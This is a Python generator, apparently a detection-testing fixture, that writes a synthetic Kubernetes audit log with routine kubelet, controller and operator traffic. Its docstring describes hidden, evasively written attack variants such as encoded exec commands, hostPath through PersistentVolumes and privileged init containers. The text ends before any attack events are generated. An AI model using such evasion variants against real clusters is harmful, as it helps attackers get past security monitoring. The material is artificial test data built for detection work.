#!/usr/bin/env python3
"""Busy-cluster single-stage audit log (3h) with embedded attack variants.

The second probe of the detections (Dec 6): 94 concepts of the public rule sets (Sigma,
Elastic, Falco, Panther, Splunk, Datadog), each written the less obvious way (exec over
WebSocket, split and encoded `command=` values, hostPath through a PersistentVolume or a JSON
patch, privileged init and ephemeral containers, Metadata-level records…), hidden in the
routine of controllers, kubelets, operators, CI and people. `tests/detect_probes.rs` runs it.

Writes audit.log (native audit.k8s.io/v1, one ResponseComplete per request) and truth.json
(concept -> [auditIDs], attack events only) into `--out DIR` (default: next to this file).
Deterministic: seed 1337. Standard library only.
"""
import json, random, uuid, os, sys
from datetime import datetime, timedelta, timezone
from urllib.parse import quote, quote_plus

R = random.Random(1337)
OUT = (sys.argv[sys.argv.index("--out") + 1] if "--out" in sys.argv[:-1]
       else os.path.dirname(os.path.abspath(__file__)))
T0 = datetime(2024, 5, 14, 9, 0, 0, tzinfo=timezone.utc)
DUR = 3 * 3600
EVENTS = []
TRUTH = {}

K8S_UA_SUFFIX = "kubernetes/55019c8"
KVER = "v1.29.4"


def uid():
    return str(uuid.UUID(int=R.getrandbits(128), version=4))


def ts(t):
    return (T0 + timedelta(seconds=t)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


CLUSTER_SCOPED = {"namespaces", "nodes", "persistentvolumes", "clusterroles", "clusterrolebindings",
                  "certificatesigningrequests", "mutatingwebhookconfigurations",
                  "validatingwebhookconfigurations", "selfsubjectaccessreviews",
                  "selfsubjectrulesreviews", "tokenreviews", "subjectaccessreviews",
                  "customresourcedefinitions", "apiservices", "priorityclasses", "storageclasses",
                  "csinodes", "volumeattachments", "ingressclasses", "flowschemas",
                  "prioritylevelconfigurations", "runtimeclasses"}


def parse_uri(uri):
    path = uri.split("?", 1)[0]
    q = uri.split("?", 1)[1] if "?" in uri else ""
    seg = [s for s in path.split("/") if s]
    if not seg:
        return None, q
    if seg[0] == "api":
        group, ver, rest = "", (seg[1] if len(seg) > 1 else None), seg[2:]
    elif seg[0] == "apis":
        if len(seg) < 4:
            return None, q
        group, ver, rest = seg[1], seg[2], seg[3:]
    else:
        return None, q
    if not rest:
        return None, q
    o = {}
    if rest[0] == "namespaces" and len(rest) >= 3 and rest[2] not in ("status", "finalize"):
        o["namespace"] = rest[1]
        rest = rest[2:]
    o["resource"] = rest[0]
    if len(rest) > 1:
        o["name"] = rest[1]
    if len(rest) > 2:
        o["subresource"] = rest[2]
    if group:
        o["apiGroup"] = group
    o["apiVersion"] = ver
    return o, q


_SA_CACHE = {}


def user_sa(ns, name, pod=None, node=None, podip=None):
    k = (ns, name, pod)
    if k in _SA_CACHE:
        return _SA_CACHE[k]
    import hashlib
    u = {"username": f"system:serviceaccount:{ns}:{name}", "uid": str(uuid.UUID(bytes=hashlib.md5(f"{ns}/{name}".encode()).digest())),
         "groups": ["system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"]}
    if pod:
        u["extra"] = {"authentication.kubernetes.io/credential-id": [f"JTI={uid()}"],
                      "authentication.kubernetes.io/node-name": [node],
                      "authentication.kubernetes.io/node-uid": [NODE_UID.get(node, uid())],
                      "authentication.kubernetes.io/pod-name": [pod],
                      "authentication.kubernetes.io/pod-uid": [POD_UID.setdefault(pod, uid())]}
    _SA_CACHE[k] = u
    return u


def user_node(n):
    return {"username": f"system:node:{n}", "groups": ["system:nodes", "system:authenticated"],
            "extra": {"authentication.kubernetes.io/credential-id": [f"X509SHA256={NODE_CERT[n]}"]}}


def user_oidc(email, groups):
    return {"username": f"oidc:{email}", "groups": [f"oidc:{g}" for g in groups] + ["system:authenticated"],
            "extra": {"authentication.kubernetes.io/credential-id": [f"JTI={uid()}"]}}


def user_sys(name):
    return {"username": name, "groups": ["system:authenticated"],
            "extra": {"authentication.kubernetes.io/credential-id": [f"X509SHA256={R.getrandbits(256):064x}"]}}


ANON = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}

METHOD_VERB = {"POST": "create", "PUT": "update", "PATCH": "patch"}


def ev(t, user, method, uri, code=None, level=None, ua="", ips=("10.0.0.10",), req=None, resp=None,
       verb=None, imp=None, ann=None, decision="allow", reason=None, stage="ResponseComplete",
       concept=None, lat=None):
    o, q = parse_uri(uri)
    if verb is None:
        if method == "GET":
            if o is None:
                verb = "get"
            elif "name" in o:
                verb = "get"
            else:
                verb = "watch" if ("watch=true" in q or "watch=1" in q) else "list"
        elif method == "DELETE":
            verb = "delete" if (o and "name" in o) else ("deletecollection" if o else "delete")
        else:
            verb = METHOD_VERB.get(method, method.lower()) if o else method.lower()
        if o and "name" in o and o.get("resource") in ("pods",) and o.get("subresource") is None and verb == "create":
            pass
    if o and verb in ("create",) and "name" in o and o.get("subresource") is None:
        # POST to a collection: name not in path; our callers pass names only where real
        pass
    if code is None:
        code = {"create": 201}.get(verb, 200)
        if o and o.get("subresource") in ("exec", "attach", "portforward") or (o and o.get("subresource") == "proxy" and "/exec/" in uri):
            code = 101 if method == "GET" else 101
        if o and o.get("subresource") in ("token", "binding", "eviction") and verb == "create":
            code = 201
        if o and o.get("resource") in ("selfsubjectaccessreviews", "selfsubjectrulesreviews", "tokenreviews", "subjectaccessreviews"):
            code = 201
    if level is None:
        res = o.get("resource") if o else None
        if res in ("secrets", "configmaps", "tokenreviews") or (o and o.get("subresource") == "token"):
            level = "Metadata"
        elif verb in ("get", "list", "watch") or o is None:
            level = "Metadata"
        else:
            level = "RequestResponse"
    aid = uid()
    lat = lat if lat is not None else R.uniform(0.001, 0.05)
    e = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level, "auditID": aid, "stage": stage,
         "requestURI": uri, "verb": verb, "user": user, "sourceIPs": list(ips)}
    if imp:
        e["impersonatedUser"] = imp
    if ua is not None:
        e["userAgent"] = ua
    if o:
        e["objectRef"] = o
    rs = {"metadata": {}, "code": code}
    if code >= 400:
        rs["status"] = "Failure"
        if code == 403:
            rs["reason"] = "Forbidden"
            who = user.get("username", "system:anonymous") if user else ""
            if o:
                rs["message"] = f'{o["resource"]}{(" " + chr(34) + o["name"] + chr(34)) if "name" in o else ""} is forbidden: User "{who}" cannot {verb} resource "{o["resource"] + ("/" + o["subresource"] if "subresource" in o else "")}" in API group "{o.get("apiGroup", "")}"' + (f' in the namespace "{o["namespace"]}"' if "namespace" in o else " at the cluster scope")
            else:
                rs["message"] = f'forbidden: User "{who}" cannot {verb} path "{uri.split("?")[0]}"'
            rs["details"] = {"name": o.get("name", ""), "kind": o["resource"]} if o else {}
            decision = "forbid" if decision == "allow" else decision
        elif code == 401:
            rs["reason"] = "Unauthorized"
            rs["message"] = "Unauthorized"
        elif code == 404:
            rs["reason"] = "NotFound"
            rs["message"] = f'{o["resource"] if o else "path"} "{o.get("name","") if o else ""}" not found'
        elif code == 409:
            rs["reason"] = "AlreadyExists"
        elif code == 422:
            rs["reason"] = "Invalid"
            rs["message"] = "Pod \"x\" is invalid: spec: Forbidden: pod updates may not change fields other than `spec.containers[*].image`,`spec.initContainers[*].image`,`spec.activeDeadlineSeconds`,`spec.tolerations` (only additions to existing tolerations),`spec.terminationGracePeriodSeconds` (allow it to be set to 1 if it was previously negative)"
    if code == 101:
        rs = {"metadata": {}, "code": 101}
    e["responseStatus"] = rs
    if level in ("Request", "RequestResponse") and req is not None:
        e["requestObject"] = req
    if level == "RequestResponse" and resp is not None:
        e["responseObject"] = resp
    e["requestReceivedTimestamp"] = ts(t)
    e["stageTimestamp"] = ts(t + lat)
    a = {}
    if code != 401 and decision:
        a["authorization.k8s.io/decision"] = decision
        if decision == "allow":
            a["authorization.k8s.io/reason"] = reason if reason is not None else default_reason(user)
        elif reason:
            a["authorization.k8s.io/reason"] = reason
    if ann:
        a.update(ann)
    if a:
        e["annotations"] = a
    EVENTS.append((t, e))
    if concept:
        TRUTH.setdefault(concept, []).append(aid)
    return e


def default_reason(user):
    n = user.get("username", "") if user else ""
    if n.startswith("system:node:"):
        return ""
    if n.startswith("system:serviceaccount:kube-system:"):
        c = n.rsplit(":", 1)[1]
        return f'RBAC: allowed by ClusterRoleBinding "system:controller:{c}" of ClusterRole "system:controller:{c}" to ServiceAccount "{c}/kube-system"'
    if n.startswith("system:serviceaccount:"):
        ns, c = n.split(":")[2:4]
        return f'RBAC: allowed by ClusterRoleBinding "{c}" of ClusterRole "{c}" to ServiceAccount "{c}/{ns}"'
    if n.startswith("oidc:"):
        return 'RBAC: allowed by ClusterRoleBinding "platform-admins" of ClusterRole "cluster-admin" to Group "oidc:platform-team"'
    if n == "system:anonymous":
        return 'RBAC: allowed by ClusterRoleBinding "system:public-info-viewer" of ClusterRole "system:public-info-viewer" to Group "system:unauthenticated"'
    return f'RBAC: allowed by ClusterRoleBinding "system:{n.split(":")[-1]}" of ClusterRole "system:{n.split(":")[-1]}" to User "{n}"'


def meta(kind, api, name, ns=None, **kw):
    m = {"name": name}
    if ns:
        m["namespace"] = ns
    m.update(kw)
    return {"kind": kind, "apiVersion": api, "metadata": m}


def ctr(name, image, **kw):
    c = {"name": name, "image": image, "resources": {}, "terminationMessagePath": "/dev/termination-log",
         "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent"}
    c.update(kw)
    return c


def podspec(containers, sa="default", **kw):
    s = {"containers": containers, "restartPolicy": "Always", "serviceAccountName": sa,
         "dnsPolicy": "ClusterFirst", "schedulerName": "default-scheduler", "securityContext": {},
         "terminationGracePeriodSeconds": 30}
    s.update(kw)
    return s


# ---------------------------------------------------------------- inventory
NODES = [f"node-{c}" for c in "abcdef"]
NODE_IP = {n: f"10.0.1.{11 + i}" for i, n in enumerate(NODES)}
NODE_IP["node-g"] = "10.0.1.17"
NODE_UID = {n: uid() for n in NODES + ["node-g"]}
NODE_CERT = {n: f"{R.getrandbits(256):064x}" for n in NODES + ["node-g"]}
POD_UID = {}
CP = "10.0.0.10"

PODS = []  # dicts: ns name sa node ip secrets cms


def add_pod(ns, name, sa, node, secrets=(), cms=(), ip=None):
    if ip is None:
        ni = NODES.index(node) if node in NODES else 6
        ip = f"10.244.{ni}.{R.randint(2, 250)}"
    p = {"ns": ns, "name": name, "sa": sa, "node": node, "ip": ip, "secrets": list(secrets), "cms": list(cms)}
    PODS.append(p)
    POD_UID.setdefault(name, uid())
    return p


def sfx(n=5):
    return "".join(R.choice("bcdfghjklmnpqrstvwxz2456789") for _ in range(n))


FRONTEND = add_pod("shop", "frontend-6c9d8f7b4-xk2lp", "frontend", "node-c", [], ["frontend-config"], ip="10.244.2.17")
add_pod("shop", f"frontend-6c9d8f7b4-{sfx()}", "frontend", "node-a", [], ["frontend-config"])
add_pod("shop", f"frontend-6c9d8f7b4-{sfx()}", "frontend", "node-e", [], ["frontend-config"])
PAYMENTS = add_pod("shop", "payments-api-7d9f5c6d8-abc12", "payments-api", "node-b", ["payments-db", "stripe-key"], ["payments-config"], ip="10.244.1.23")
add_pod("shop", f"payments-api-7d9f5c6d8-{sfx()}", "payments-api", "node-d", ["payments-db", "stripe-key"], ["payments-config"])
for n in ("node-a", "node-f"):
    add_pod("shop", f"cart-5b8c9d7f6-{sfx()}", "default", n, ["redis-auth"], ["cart-config"])
add_pod("shop", "postgres-0", "default", "node-d", ["postgres-credentials"], [])
for i, n in enumerate(("node-b", "node-c", "node-d")):
    add_pod("data", f"kafka-{i}", "kafka", n, ["kafka-jaas"], ["kafka-config"])
add_pod("data", "redis-0", "default", "node-e", ["redis-auth"], [])
PROM = add_pod("monitoring", "prometheus-k8s-0", "prometheus-k8s", "node-e", ["prometheus-k8s-tls-assets", "alertmanager-config"], ["prometheus-k8s-rulefiles-0"])
add_pod("monitoring", f"grafana-7f8d9c-{sfx()}", "grafana", "node-f", ["grafana-admin"], ["grafana-dashboards"])
KSM = add_pod("monitoring", f"kube-state-metrics-6d5b-{sfx()}", "kube-state-metrics", "node-a", [], [])
for n in NODES:
    add_pod("monitoring", f"node-exporter-{sfx()}", "node-exporter", n)
    add_pod("logging", f"fluent-bit-{sfx()}", "fluent-bit", n, [], ["fluent-bit-config"])
    add_pod("kube-system", f"kube-proxy-{sfx()}", "kube-proxy", n, [], ["kube-proxy"])
ARGO_APP = add_pod("argocd", "argocd-application-controller-0", "argocd-application-controller", "node-b", [], ["argocd-cm"])
ARGO_SRV = add_pod("argocd", f"argocd-server-5d7c9-{sfx()}", "argocd-server", "node-c", ["argocd-secret"], ["argocd-cm", "argocd-rbac-cm"])
ARGO_REPO = add_pod("argocd", f"argocd-repo-server-8f6b-{sfx()}", "argocd-repo-server", "node-f", [], ["argocd-cm"])
CERTM = add_pod("cert-manager", f"cert-manager-7b9c-{sfx()}", "cert-manager", "node-d", [], [])
CAINJ = add_pod("cert-manager", f"cert-manager-cainjector-5f6-{sfx()}", "cert-manager-cainjector", "node-a", [], [])
VELERO = add_pod("velero", f"velero-6c7d-{sfx()}", "velero", "node-e", ["cloud-credentials"], [])
EXTDNS = add_pod("external-dns", f"external-dns-8b9-{sfx()}", "external-dns", "node-f", ["aws-creds"], [])
CAS = add_pod("kube-system", f"cluster-autoscaler-5f7-{sfx()}", "cluster-autoscaler", "node-b", [], [])
COREDNS = [add_pod("kube-system", f"coredns-5d78c9869d-{sfx()}", "coredns", n, [], ["coredns"]) for n in ("node-a", "node-d")]
METRICS = add_pod("kube-system", f"metrics-server-7cd5-{sfx()}", "metrics-server", "node-c", [], [])
INGRESS = add_pod("ingress-nginx", f"ingress-nginx-controller-6b4-{sfx()}", "ingress-nginx", "node-b", ["ingress-nginx-admission"], [])
KYVERNO = add_pod("kyverno", f"kyverno-admission-controller-7d-{sfx()}", "kyverno-admission-controller", "node-d", [], ["kyverno"])


def sa_of(p):
    return user_sa(p["ns"], p["sa"], p["name"], p["node"])


def cg_ua(prog, ver="v0.0.0"):
    return f"{prog}/{ver} (linux/amd64) kubernetes/$Format"


KUBELET_UA = f"kubelet/{KVER} (linux/amd64) {K8S_UA_SUFFIX}"
KCM_UA = f"kube-controller-manager/{KVER} (linux/amd64) {K8S_UA_SUFFIX}"
SCHED_UA = f"kube-scheduler/{KVER} (linux/amd64) {K8S_UA_SUFFIX}/scheduler"


def ctrl(name):
    return user_sa("kube-system", name), f"{KCM_UA}/system:serviceaccount:kube-system:{name}"


def every(period, jitter=0.2, start=None, end=DUR):
    t = start if start is not None else R.uniform(0, period)
    while t < end:
        yield t
        t += period * R.uniform(1 - jitter, 1 + jitter)


RV = [4000000]


def rv():
    RV[0] += R.randint(1, 40)
    return str(RV[0])


# ---------------------------------------------------------------- benign: kubelets
def kubelet_pod_status(t, p, node):
    body = {"metadata": {"uid": POD_UID.setdefault(p["name"], uid())},
            "status": {"$setElementOrder/conditions": [{"type": "Initialized"}, {"type": "Ready"}, {"type": "ContainersReady"}, {"type": "PodScheduled"}],
                       "conditions": [{"lastTransitionTime": ts(t)[:19] + "Z", "status": "True", "type": "Ready"}],
                       "hostIP": NODE_IP[node], "podIP": p["ip"], "podIPs": [{"ip": p["ip"]}], "phase": "Running",
                       "startTime": ts(t - 3)[:19] + "Z"}}
    resp = meta("Pod", "v1", p["name"], p["ns"], uid=POD_UID[p["name"]], resourceVersion=rv())
    resp["spec"] = {"nodeName": node, "serviceAccountName": p["sa"]}
    resp["status"] = {"phase": "Running", "hostIP": NODE_IP[node], "podIP": p["ip"], "podIPs": [{"ip": p["ip"]}]}
    ev(t, user_node(node), "PATCH", f"/api/v1/namespaces/{p['ns']}/pods/{p['name']}/status", level="RequestResponse",
       ua=KUBELET_UA, ips=[NODE_IP[node]], req=body, resp=resp,
       ann={"mutation.webhook.admission.k8s.io/round_0_index_0": "{\"configuration\":\"kyverno-resource-mutating-webhook-cfg\",\"webhook\":\"mutate.kyverno.svc-fail\",\"mutated\":false}"})


def kubelet_token(t, p):
    node = p["node"]
    req = {"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "metadata": {"creationTimestamp": None},
           "spec": {"audiences": None, "expirationSeconds": 3607,
                    "boundObjectRef": {"kind": "Pod", "apiVersion": "v1", "name": p["name"], "uid": POD_UID[p["name"]]}}, "status": {"token": "", "expirationTimestamp": None}}
    ev(t, user_node(node), "POST", f"/api/v1/namespaces/{p['ns']}/serviceaccounts/{p['sa']}/token", ua=KUBELET_UA,
       ips=[NODE_IP[node]], req=req, reason="",
       ann={"authentication.kubernetes.io/issued-credential-id": f"JTI={uid()}"})


def gen_kubelets():
    for n in NODES:
        ip = [NODE_IP[n]]
        u = user_node(n)
        for t in every(20, 0.05):
            ev(t, u, "PUT", f"/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{n}?timeout=10s", ua=KUBELET_UA, ips=ip, level="Metadata", reason="")
        for t in every(300, 0.02):
            ev(t, u, "GET", f"/api/v1/nodes/{n}?resourceVersion=0&timeout=10s", ua=KUBELET_UA, ips=ip, reason="")
            ev(t + 0.01, u, "PATCH", f"/api/v1/nodes/{n}/status?timeout=10s", ua=KUBELET_UA, ips=ip, level="Metadata", reason="")
        # watches re-established
        for t in every(420, 0.3):
            ev(t, u, "GET", f"/api/v1/pods?allowWatchBookmarks=true&fieldSelector=spec.nodeName%3D{n}&resourceVersion={rv()}&timeoutSeconds={R.randint(300, 600)}&watch=true", ua=KUBELET_UA, ips=ip, reason="", lat=R.uniform(300, 600))
        for t in every(480, 0.3):
            ev(t, u, "GET", f"/api/v1/services?allowWatchBookmarks=true&resourceVersion={rv()}&timeoutSeconds={R.randint(300, 600)}&watch=true", ua=KUBELET_UA, ips=ip, reason="")
        for t in every(600, 0.3):
            ev(t, u, "GET", f"/apis/storage.k8s.io/v1/csidrivers?allowWatchBookmarks=true&resourceVersion={rv()}&timeoutSeconds=533&watch=true", ua=KUBELET_UA, ips=ip, reason="")
    for p in PODS:
        n = p["node"]
        u = user_node(n)
        ip = [NODE_IP[n]]
        for s in p["secrets"]:
            for t in every(540, 0.4):
                ev(t, u, "GET", f"/api/v1/namespaces/{p['ns']}/secrets?allowWatchBookmarks=true&fieldSelector=metadata.name%3D{s}&resourceVersion={rv()}&timeout=8m{R.randint(0,59)}s&timeoutSeconds={R.randint(400,540)}&watch=true", ua=KUBELET_UA, ips=ip, reason="")
        for c in p["cms"] + ["kube-root-ca.crt"]:
            for t in every(600, 0.4):
                ev(t, u, "GET", f"/api/v1/namespaces/{p['ns']}/configmaps?allowWatchBookmarks=true&fieldSelector=metadata.name%3D{c}&resourceVersion={rv()}&timeout=9m{R.randint(0,59)}s&timeoutSeconds={R.randint(400,590)}&watch=true", ua=KUBELET_UA, ips=ip, reason="")
        for t in every(2880, 0.1):
            kubelet_token(t, p)
        # status refreshes (readiness flaps) give pod IPs
        kubelet_pod_status(R.uniform(10, 900), p, n)
        for t in every(2400, 0.5, start=R.uniform(1200, 3600)):
            kubelet_pod_status(t, p, n)


# ---------------------------------------------------------------- control plane
def gen_controlplane():
    kcm = user_sys("system:kube-controller-manager")
    sch = user_sys("system:kube-scheduler")
    for t in every(10, 0.05):
        ev(t, kcm, "PUT", "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-controller-manager?timeout=5s", ua=f"{KCM_UA}/leader-election", ips=[CP])
    for t in every(10, 0.05):
        ev(t, sch, "PUT", "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-scheduler?timeout=5s", ua=f"kube-scheduler/{KVER} (linux/amd64) {K8S_UA_SUFFIX}/leader-election", ips=[CP])
    u, ua = ctrl("endpointslice-controller")
    nss = ["shop", "data", "monitoring", "argocd", "kube-system", "ingress-nginx", "cert-manager"]
    for t in every(35, 0.5):
        ns = R.choice(nss)
        ev(t, u, "PUT", f"/apis/discovery.k8s.io/v1/namespaces/{ns}/endpointslices/{R.choice(['web','api','metrics','headless'])}-{sfx()}", ua=ua, ips=[CP], level="Metadata")
    u, ua = ctrl("endpoint-controller")
    for t in every(60, 0.5):
        ns = R.choice(nss)
        ev(t, u, "PUT", f"/api/v1/namespaces/{ns}/endpoints/{R.choice(['frontend','payments-api','cart','kafka','redis','prometheus-k8s'])}", ua=ua, ips=[CP], level="Metadata")
    u, ua = ctrl("horizontal-pod-autoscaler")
    for t in every(30, 0.1):
        d = R.choice(["frontend", "cart"])
        ev(t, u, "GET", f"/apis/apps/v1/namespaces/shop/deployments/{d}/scale", ua=ua, ips=[CP])
        ev(t + 0.02, u, "GET", f"/apis/metrics.k8s.io/v1beta1/namespaces/shop/pods?labelSelector=app%3D{d}", ua=ua, ips=[CP])
    u, ua = ctrl("resourcequota-controller")
    for t in every(300, 0.2):
        ev(t, u, "PUT", "/api/v1/namespaces/shop/resourcequotas/shop-quota/status", ua=ua, ips=[CP], level="Metadata")
    u, ua = ctrl("generic-garbage-collector")
    for t in every(30, 0.1):
        ev(t, u, "GET", "/apis", ua=ua, ips=[CP])
        ev(t + .005, u, "GET", "/api", ua=ua, ips=[CP])
    u, ua = ctrl("node-controller")
    for t in every(300, 0.2):
        ev(t, u, "GET", f"/api/v1/nodes/{R.choice(NODES)}", ua=ua, ips=[CP])
    u, ua = ctrl("pvc-protection-controller")
    for t in every(900):
        ev(t, u, "GET", "/api/v1/persistentvolumeclaims?allowWatchBookmarks=true&resourceVersion=%s&timeoutSeconds=511&watch=true" % rv(), ua=ua, ips=[CP])


def rollout(t, ns, deploy, sa, nodes, n=2, image="registry.corp.example/shop/app:1.0"):
    """Deployment controller + replicaset controller + scheduler + kubelet for a rollout."""
    du, dua = ctrl("deployment-controller")
    ru, rua = ctrl("replicaset-controller")
    sch = user_sys("system:kube-scheduler")
    rs = f"{deploy}-{R.getrandbits(40):010x}"[:len(deploy) + 10]
    ev(t + 0.2, du, "POST", f"/apis/apps/v1/namespaces/{ns}/replicasets", ua=dua, ips=[CP], level="RequestResponse",
       req={"kind": "ReplicaSet", "apiVersion": "apps/v1", "metadata": {"name": rs, "namespace": ns},
            "spec": {"replicas": n, "template": {"metadata": {"labels": {"app": deploy}}, "spec": podspec([ctr(deploy, image)], sa=sa)}}})
    ev(t + 0.3, du, "PUT", f"/apis/apps/v1/namespaces/{ns}/deployments/{deploy}/status", ua=dua, ips=[CP], level="Metadata")
    for i in range(n):
        tt = t + 1 + i * 8
        node = R.choice(nodes)
        name = f"{rs}-{sfx()}"
        p = add_pod(ns, name, sa, node, [], [f"{deploy}-config"])
        body = {"kind": "Pod", "apiVersion": "v1", "metadata": {"generateName": rs + "-", "namespace": ns, "labels": {"app": deploy},
                "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": rs, "uid": uid(), "controller": True, "blockOwnerDeletion": True}]},
                "spec": podspec([ctr(deploy, image, ports=[{"containerPort": 8080, "protocol": "TCP"}])], sa=sa)}
        resp = dict(body); resp = json.loads(json.dumps(body)); resp["metadata"]["name"] = name; resp["metadata"]["uid"] = POD_UID[name]
        resp["status"] = {"phase": "Pending", "qosClass": "BestEffort"}
        ev(tt, ru, "POST", f"/api/v1/namespaces/{ns}/pods", ua=rua, ips=[CP], level="RequestResponse", req=body, resp=resp)
        ev(tt + 0.05, sch, "POST", f"/api/v1/namespaces/{ns}/pods/{name}/binding", ua=SCHED_UA, ips=[CP], level="Request",
           req={"kind": "Binding", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns, "uid": POD_UID[name]}, "target": {"kind": "Node", "name": node}},
           reason='RBAC: allowed by ClusterRoleBinding "system:kube-scheduler" of ClusterRole "system:kube-scheduler" to User "system:kube-scheduler"')
        kubelet_token(tt + 0.5, p)
        kubelet_pod_status(tt + 3, p, node)
        ev(tt + 12, ru, "DELETE", f"/api/v1/namespaces/{ns}/pods/{deploy}-old{i}-{sfx()}", ua=rua, ips=[CP], level="Metadata")


# ---------------------------------------------------------------- operators
def gen_operators():
    # cert-manager
    u = sa_of(CERTM); ip = [CERTM["ip"]]; ua = "cert-manager-controller/v1.14.4 (linux/amd64) cert-manager/f4b9a3b1fdbf2e7c9a0c6bd6f0c9e4a6b2c1d3e5"
    for t in every(15, 0.05):
        ev(t, u, "PUT", "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/cert-manager-controller", ua=ua, ips=ip)
    for t in every(600, 0.3):
        ev(t, u, "GET", f"/apis/cert-manager.io/v1/certificates?allowWatchBookmarks=true&resourceVersion={rv()}&timeoutSeconds=562&watch=true", ua=ua, ips=ip)
        ev(t + 1, u, "GET", f"/api/v1/secrets?allowWatchBookmarks=true&labelSelector=controller.cert-manager.io%2Ffao&resourceVersion={rv()}&timeoutSeconds=431&watch=true", ua=ua, ips=ip)
    for t in every(1500, 0.3):
        ns, nm = R.choice([("shop", "shop-tls"), ("argocd", "argocd-server-tls"), ("monitoring", "grafana-tls"), ("ingress-nginx", "wildcard-corp-tls")])
        ev(t, u, "POST", f"/apis/cert-manager.io/v1/namespaces/{ns}/certificaterequests", ua=ua, ips=ip,
           req={"kind": "CertificateRequest", "apiVersion": "cert-manager.io/v1", "metadata": {"generateName": nm + "-", "namespace": ns}, "spec": {"issuerRef": {"name": "letsencrypt", "kind": "ClusterIssuer"}, "request": "LS0tLS1CRUdJTi..."}})
        ev(t + 20, u, "GET", f"/api/v1/namespaces/{ns}/secrets/{nm}", ua=ua, ips=ip)
        ev(t + 20.2, u, "PUT", f"/api/v1/namespaces/{ns}/secrets/{nm}", ua=ua, ips=ip)
        ev(t + 20.4, u, "PUT", f"/apis/cert-manager.io/v1/namespaces/{ns}/certificates/{nm.replace('-tls','')}/status", ua=ua, ips=ip)
    # cainjector patches webhook caBundles (benign webhook updates)
    u = sa_of(CAINJ); ip = [CAINJ["ip"]]; ua = "cert-manager-cainjector/v1.14.4 (linux/amd64) cert-manager/f4b9a3b1fdbf2e7c9a0c6bd6f0c9e4a6b2c1d3e5"
    for t in every(15, 0.05):
        ev(t, u, "PUT", "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/cert-manager-cainjector-leader-election", ua=ua, ips=ip)
    for t in (2400.5, 6100.2, 9800.7):
        for kind in ("validatingwebhookconfigurations", "mutatingwebhookconfigurations"):
            ev(t, u, "PATCH", f"/apis/admissionregistration.k8s.io/v1/{kind}/cert-manager-webhook?fieldManager=cert-manager-cainjector&force=true", ua=ua, ips=ip, level="RequestResponse",
               req={"apiVersion": "admissionregistration.k8s.io/v1", "kind": kind[:-1].replace("configurations", "Configuration").replace("validatingwebhook", "ValidatingWebhook").replace("mutatingwebhook", "MutatingWebhook"),
                    "metadata": {"name": "cert-manager-webhook"}, "webhooks": [{"name": "webhook.cert-manager.io", "clientConfig": {"caBundle": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUM="}}]},
               ann={"authorization.k8s.io/reason": 'RBAC: allowed by ClusterRoleBinding "cert-manager-cainjector" of ClusterRole "cert-manager-cainjector" to ServiceAccount "cert-manager-cainjector/cert-manager"'})
            t += 0.3
    # kyverno refreshes its webhooks
    u = sa_of(KYVERNO); ip = [KYVERNO["ip"]]; ua = "kyverno/v1.11.4 (linux/amd64) kubernetes/$Format"
    for t in every(10, 0.1):
        ev(t, u, "PUT", "/apis/coordination.k8s.io/v1/namespaces/kyverno/leases/kyverno", ua=ua, ips=ip)
    for t in every(3600, 0.1, start=1900):
        ev(t, u, "PUT", "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/kyverno-resource-mutating-webhook-cfg", ua=ua, ips=ip, level="Metadata")
        ev(t + .2, u, "PUT", "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/kyverno-resource-validating-webhook-cfg", ua=ua, ips=ip, level="Metadata")
    # argo-cd
    u = sa_of(ARGO_APP); ip = [ARGO_APP["ip"]]; ua = "argocd-application-controller/v2.10.7+b060053 (linux/amd64) kubernetes/$Format"
    for t in every(180, 0.5):
        ns = R.choice(["shop", "data", "monitoring", "ingress-nginx"])
        ev(t, u, "GET", f"/apis/apps/v1/namespaces/{ns}/deployments?limit=500", ua=ua, ips=ip)
        ev(t + .1, u, "GET", f"/api/v1/namespaces/{ns}/services?limit=500", ua=ua, ips=ip)
        ev(t + .2, u, "GET", f"/api/v1/namespaces/{ns}/configmaps?limit=500", ua=ua, ips=ip)
    for t in every(600, 0.3):
        ev(t, u, "PATCH", "/apis/argoproj.io/v1alpha1/namespaces/argocd/applications/shop", ua=ua, ips=ip, level="Metadata")
    for t in every(1800, 0.3):
        ev(t, u, "PATCH", "/apis/apps/v1/namespaces/monitoring/deployments/grafana?fieldManager=argocd-controller", ua=ua, ips=ip, level="RequestResponse",
           req={"metadata": {"annotations": {"argocd.argoproj.io/tracking-id": "monitoring:apps/Deployment:monitoring/grafana"}}, "spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": ts(t)[:19] + "Z"}}}}})
    # argocd syncs a new CronJob (benign, SA-created, from pod IP)
    ev(4300, u, "POST", "/apis/batch/v1/namespaces/data/cronjobs?fieldManager=argocd-controller", ua=ua, ips=ip, level="RequestResponse",
       req={"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "compaction", "namespace": "data", "labels": {"app.kubernetes.io/instance": "data"}},
            "spec": {"schedule": "0 * * * *", "jobTemplate": {"spec": {"template": {"spec": podspec([ctr("compaction", "registry.corp.example/data/compaction:2.3.1", args=["--topic", "orders"])], sa="kafka", restartPolicy="OnFailure")}}}}})
    ev(4301, u, "POST", "/apis/apps/v1/namespaces/data/deployments?fieldManager=argocd-controller", ua=ua, ips=ip, level="RequestResponse",
       req={"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "schema-registry", "namespace": "data"},
            "spec": {"replicas": 1, "template": {"metadata": {"labels": {"app": "schema-registry"}}, "spec": podspec([ctr("schema-registry", "confluentinc/cp-schema-registry:7.6.0")])}}})
